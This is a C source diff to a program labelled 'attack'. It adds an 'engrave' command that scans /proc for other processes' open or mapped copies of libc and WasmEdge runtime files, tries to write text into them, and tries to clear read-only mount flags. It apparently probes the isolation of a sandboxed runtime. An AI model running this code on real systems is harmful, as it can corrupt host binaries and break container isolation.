@@ -10,6 +10,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <linux/mount.h>
 #include <sys/ptrace.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
@@ -223,6 +224,88 @@ static int descend(const char *seconds, const char *name)
 	return end();
 }
 
+/* Whether a path ends with the name of a part of the runtime or its engine, not of memory that is called so. */
+static int is_part(const char *path)
+{
+	const char *name = strrchr(path, '/');
+
+	return name && (!strncmp(name, "/lib", 4) || !strncmp(name, "/ld", 3) || !strncmp(name, "/proa", 5));
+}
+
+/* Opens for writing what is found at `path`, a link of procfs or below one; with `text`, that is written to its end. */
+static void engrave_on(const char *path, const char *target, const char *text)
+{
+	int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+
+	if (fd >= 0 && (!text || write(fd, text, strlen(text)) > 0))
+		printf("WROTE %s by %s\n", target, path), fflush(stdout);
+	if (fd >= 0)
+		close(fd);
+}
+
+/* All links in a directory of procfs. How many lead to parts of the runtime or its engine. */
+static int engrave_each(const char *dir, const char *text)
+{
+	static const char *const parts[] = { "libwasmedge.so.0", "libc.so.6", "proa-wasmedge" };
+	char path[512], below[600], target[4096];
+	struct dirent *entry;
+	struct stat what;
+	int seen = 0;
+	DIR *d = opendir(dir);
+
+	while (d && (entry = readdir(d))) {
+		if (entry->d_name[0] == '.')
+			continue;
+		snprintf(path, sizeof path, "%s/%s", dir, entry->d_name);
+		strcpy(target, target_of(path));
+		if (is_part(target)) {
+			seen++;
+			engrave_on(path, target, text);
+		} else if (strstr(dir, "/fd") && !stat(path, &what) && S_ISDIR(what.st_mode)) {
+			/* A mount that is read-only may be made writable again, by who may mount. */
+			struct mount_attr writable = { .attr_clr = MOUNT_ATTR_RDONLY };
+			syscall(SYS_mount_setattr, AT_FDCWD, path, 0, &writable, sizeof writable);
+			for (unsigned i = 0; i < sizeof parts / sizeof *parts; i++) {
+				snprintf(below, sizeof below, "%s/%s", path, parts[i]);
+				engrave_on(below, parts[i], text);
+			}
+		}
+	}
+	if (d)
+		closedir(d);
+	return seen;
+}
+
+/*
+ * "engrave SECONDS [TEXT]": opens for writing, and writes to, all that others have mapped or open of the runtime and its engine,
+ * at least once. Says how many mappings of those it has seen at most.
+ */
+static int engrave(const char *seconds, const char *text)
+{
+	char path[300];
+	int most = 0;
+
+	start(seconds, "watching");
+	do {
+		int seen = 0;
+		for (int pid = 1; pid < 600; pid++) {
+			if (pid == getpid())
+				continue;
+			snprintf(path, sizeof path, "/proc/%d/map_files", pid);
+			seen += engrave_each(path, text);
+			snprintf(path, sizeof path, "/proc/%d/fd", pid);
+			engrave_each(path, text);
+			snprintf(path, sizeof path, "/proc/%d/exe", pid);
+			if (is_part(target_of(path)))
+				engrave_on(path, "an executable", text);
+		}
+		if (seen > most)
+			most = seen;
+	} while (time_left());
+	printf("seen %d\n", most);
+	return end();
+}
+
 /* "connect PATH": to a socket of the host, as anybody. */
 static int connect_to(const char *path)
 {
@@ -252,6 +335,8 @@ int main(int argc, char **argv)
 		return climb(argv[2]);
 	if (!strcmp(what, "descend") && argc > 3)
 		return descend(argv[2], argv[3]);
+	if (!strcmp(what, "engrave") && argc > 2)
+		return engrave(argv[2], argc > 3 ? argv[3] : 0);
 	if (!strcmp(what, "connect") && argc > 2)
 		return connect_to(argv[2]);
 	fprintf(stderr, "attack: what is \"%s\"?\n", what);
